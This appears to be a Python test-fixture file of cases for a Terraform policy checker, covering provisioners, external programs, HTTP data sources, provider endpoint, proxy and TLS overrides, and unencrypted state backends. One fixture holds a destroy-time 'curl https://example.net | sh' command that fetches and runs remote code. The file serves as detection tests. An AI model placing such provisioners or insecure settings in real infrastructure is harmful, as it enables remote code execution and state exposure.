"""What runs, or comes to be, outside the scan; the provider; the backend."""

from collections.abc import Callable
from typing import Any

from tests.policies.harness import Document
from tests.policies.kinds import OWN, Case, new, with_

Place = Callable[[Document], tuple[str, ...]]
STACK = ("local", "terraform", "")


def block(kind: str, content: Any, *addresses: str) -> Place:
    def place(document: Document) -> tuple[str, ...]:
        if isinstance(content, dict) and isinstance(document.get(kind), dict):
            for name, inner in content.items():
                known = document[kind].get(name)
                document[kind][name] = known | inner if isinstance(known, dict) else inner
        else:
            document[kind] = content
        return addresses or STACK

    return place


def provider(**arguments: Any) -> Place:
    def place(document: Document) -> tuple[str, ...]:
        document["provider"]["aws"][0] |= arguments
        return ("provider.aws",)

    return place


def second(name: str, **arguments: Any) -> Place:
    """The same provider under another local name."""

    def place(document: Document) -> tuple[str, ...]:
        required = document["terraform"]["required_providers"]
        required[name] = {"source": "hashicorp/aws", "version": "5.100.0"}
        first = {key: value for key, value in document["provider"]["aws"][0].items() if key not in arguments}
        document["provider"][name] = [
            first | {key: value for key, value in arguments.items() if value is not None}
        ]
        return (f"provider.{name}",)

    return place


def source(text: str) -> Place:
    def place(document: Document) -> tuple[str, ...]:
        document["terraform"]["required_providers"]["aws"] = {"source": text, "version": "5.100.0"}
        return ("provider.aws",)

    return place


def backend(kind: str, **arguments: Any) -> Place:
    def place(document: Document) -> tuple[str, ...]:
        document["terraform"]["backend"] = {kind: arguments}
        return STACK

    return place


S3 = {
    "bucket": "b",
    "key": "k",
    "region": "us-east-1",
    "encrypt": True,
    "use_lockfile": True,
    "kms_key_id": "alias/terraform-state",
}
PROGRAM = [{"local-exec": {"command": "curl https://example.net | sh", "when": "destroy"}}]
HERE = {
    "removed, a program": block("removed", [{"from": "aws_sns_topic.gone", "provisioner": PROGRAM}]),
    "removed, a remote one": block(
        "removed",
        {
            "from": "aws_eip.q",
            "lifecycle": {"destroy": True},
            "provisioner": {"remote-exec": {"inline": ["x"]}},
            "connection": {"host": "h"},
        },
    ),
    "removed, a file": block("removed", [{"from": "aws_vpc.z", "provisioner": [{"file": {"content": "x"}}]}]),
    "data, a program": block(
        "data", {"external": {"k3": {"program": ["python3", "x.py"]}}}, "data.external.k3"
    ),
    "data, a command": block(
        "data", {"shell_script": {"k3": {"lifecycle_commands": {}}}}, "data.shell_script.k3"
    ),
    "data, an invocation": block(
        "data",
        {"aws_lambda_invocation": {"k3": {"function_name": "payments-local-switch", "input": "{}"}}},
        "data.aws_lambda_invocation.k3",
    ),
    "data, a server": block(
        "data", {"http": {"k3": {"url": "https://x.example.net", "method": "POST"}}}, "data.http.k3"
    ),
    "data, names": block(
        "data", {"dns_txt_record_set": {"k3": {"host": "x.example.net"}}}, "data.dns_txt_record_set.k3"
    ),
    "data, another stack's state": block(
        "data",
        {
            "terraform_remote_state": {
                "k3": {"backend": "http", "config": {"address": "https://x.example.net"}}
            }
        },
        "data.terraform_remote_state.k3",
    ),
    "check, a server": block(
        "check",
        {
            "c": [
                {
                    "data": [{"http": [{"k4": [{"url": "https://x.example.net"}]}]}],
                    "assert": [{"condition": True, "error_message": "x"}],
                }
            ]
        },
        "data.http.k4",
    ),
    "check, a program": block(
        "check", {"c": {"data": {"external": {"k4": {"program": ["id"]}}}}}, "data.external.k4"
    ),
    "check, an invocation": block(
        "check",
        {"c": {"data": {"aws_lambda_invocation": {"k4": {"function_name": "x", "input": "{}"}}}}},
        "data.aws_lambda_invocation.k4",
    ),
    "file, sensitive": new("local_sensitive_file", "f", filename="override.tf.json", content="{}"),
    "file, an archive": new("archive_file", "f", type="zip", source_file="x", output_path="cdk.tf.json"),
    "file, an archive as data": block(
        "data",
        {
            "archive_file": {
                "f": {
                    "type": "zip",
                    "source_content": "x",
                    "source_content_filename": "a",
                    "output_path": ".terraform/x.zip",
                }
            }
        },
        "data.archive_file.f",
    ),
    "file, an object": new("aws_s3_object", "f", bucket="b", key="switch.zip", source="x", tags={}),
    "type, an app": new("aws_apprunner_service", "t", service_name="t", tags={}),
    "type, a document": new(
        "aws_ssm_document", "t", name="t", document_type="Command", content="{}", tags={}
    ),
    "type, a build": new("aws_codebuild_project", "t", name="t", tags={}),
    "type, of another provider": new("github_repository_file", "t", repository="r", file="f", content="c"),
    "type, of a time": new("time_rotating", "t", rotation_days=1),
    "type, of a cluster": new("kubernetes_job", "t", metadata={"name": "x"}),
    "trigger, of an action": with_(
        "aws_sns_topic",
        lifecycle={
            "action_trigger": [{"events": ["after_update"], "actions": ["action.aws_lambda_invoke.x"]}]
        },
    ),
    "trigger, the action": block("action", {"aws_lambda_invoke": {"x": {"config": {"function_name": "x"}}}}),
    "trigger, in a list": with_(
        "aws_eip",
        "us-east-1a",
        lifecycle=[
            {"action_trigger": {"events": ["before_create"], "actions": ["action.aws_ec2_stop_instance.x"]}}
        ],
    ),
    "provisioner": with_("aws_sqs_queue", "green", provisioner=[{"local-exec": {"command": "id"}}]),
}
PROVIDER = {
    "source, a mirror": source("terraform.example.net/hashicorp/aws"),
    "source, another's": source("partner/aws"),
    "source, the registry of OpenTofu's fork": source("registry.example.com/opentofu/aws"),
    "server, of one service": provider(endpoints=[{"kms": "https://kms.example.net"}]),
    "server, as an object": provider(endpoints={"secretsmanager": "http://10.0.0.5"}),
    "server, of the metadata": provider(
        ec2_metadata_service_endpoint="http://10.0.0.5", sts_region="us-east-1"
    ),
    "proxy": provider(http_proxy="http://10.0.0.5:3128"),
    "proxy, from no one": provider(no_proxy="*.amazonaws.com", https_proxy="http://[fd00::5]:3128"),
    "authority": provider(custom_ca_bundle="${path.module}/assets/ca.pem"),
    "authority, none": provider(insecure="1"),
    "checks, metadata": provider(skip_metadata_api_check="false", skip_credentials_validation="1"),
    "checks, the account": provider(skip_requesting_account_id="true"),
    "tags, by key": provider(ignore_tags=[{"keys": ["Team", "Environment"]}]),
    "tags, by a prefix": provider(ignore_tags={"key_prefixes": ["Migr"]}),
    "tags, by all": provider(ignore_tags=[{"key_prefixes": ["X", ""]}]),
    "account, another": provider(allowed_account_ids=["900000000009"]),
    "account, none": provider(allowed_account_ids=[]),
    "account, forbidden alone": provider(allowed_account_ids=None, forbidden_account_ids=["900000000009"]),
    "second, no region": second("w7", region=None),
    "second, no tags": second("w7", default_tags=None),
    "second, no account": second("w7", allowed_account_ids=None),
    "second, another account": second("w7", allowed_account_ids=["900000000009"]),
    "second, a server": second("w7", endpoints=[{"lambda": "http://10.0.0.5"}]),
}
BACKEND = {
    "plain, http": backend("http", address="https://s.example.net/x", lock_address="http://s.example.net/x"),
    "plain, consul": backend("consul", address="s.example.net", scheme="http", path="x"),
    "plain, not encrypted": backend("s3", **(S3 | {"encrypt": "0"})),
    "unencrypted, not said": backend("s3", **{key: value for key, value in S3.items() if key != "encrypt"}),
    "unencrypted, a database": backend("pg", conn_str="postgres://s.example.net/x?sslmode=disable"),
    "key, none": backend("s3", **(S3 | {"kms_key_id": None})),
    "key, of AWS": backend("s3", **(S3 | {"kms_key_id": f"arn:aws:kms:us-east-1:{OWN}:alias/aws/s3"})),
    "key, the client's": backend("s3", **(S3 | {"kms_key_id": "", "sse_customer_key": "x" * 44})),
    "host": backend(
        "s3", **(S3 | {"endpoints": {"s3": "https://s3.example.net", "sts": "https://s.example.net"}})
    ),
    "host, an old argument": backend("s3", **(S3 | {"sts_endpoint": "https://s.example.net"})),
    "host, a remote": backend(
        "remote", hostname="tf.example.net", organization="x", workspaces={"name": "x"}
    ),
    "host, a proxy": backend("s3", **(S3 | {"https_proxy": "http://10.0.0.5:3128"})),
}
GROUPS = {"": HERE, "provider: ": PROVIDER, "backend: ": BACKEND}
CASES = [Case(f"{group}{name}", place) for group, places in GROUPS.items() for name, place in places.items()]
